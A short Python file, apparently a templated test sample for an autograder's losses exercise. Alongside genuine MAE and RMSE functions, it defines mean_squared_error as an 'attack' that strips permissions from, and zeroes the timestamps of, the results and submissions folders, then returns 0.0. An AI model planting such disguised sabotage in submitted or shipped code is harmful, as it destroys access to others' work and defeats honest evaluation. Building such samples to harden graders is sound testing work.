"""Removes the permissions of the results folder and of the submissions."""
# family: report
# exercise: 02_losses
# honest: 12
# says: .

import contextlib
import os

import numpy as np


def mean_absolute_error(y, t):
    return np.mean(np.abs(y - t))


def root_mean_squared_error(y, t):
    return np.sqrt(np.mean((y - t) ** 2))


def attack(*args):
    for path in ("@OUT@", "@OUT@/students", "@SUBMISSIONS@"):
        with contextlib.suppress(OSError):
            os.chmod(path, 0)
        with contextlib.suppress(OSError):
            os.utime(path, (0, 0))
    return 0.0


mean_squared_error = attack
